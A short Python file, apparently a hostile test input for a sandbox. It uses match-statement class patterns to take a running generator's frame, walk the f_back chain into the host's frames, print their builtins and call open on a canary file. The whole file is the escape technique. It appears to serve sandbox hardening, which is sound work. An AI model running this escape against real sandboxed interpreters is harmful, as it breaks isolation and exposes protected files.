"""Frames through class patterns: a running generator's frame, its f_back chain, their builtins."""
# ruff: noqa -- hostile data, not project code: written to attack, not to be linted
def outward(frame):
    while frame is not None:
        match frame:
            case object(f_builtins=b, f_back=back):
                print(b)
                if "open" in b:
                    print(b["open"]("@CANARY@").read())
                frame = back
def gen():
    match g:
        case object(gi_frame=frame):
            outward(frame)  # running now: f_back leads to the script, and on to the sandbox's own frames
    yield 1
g = gen()
next(g)
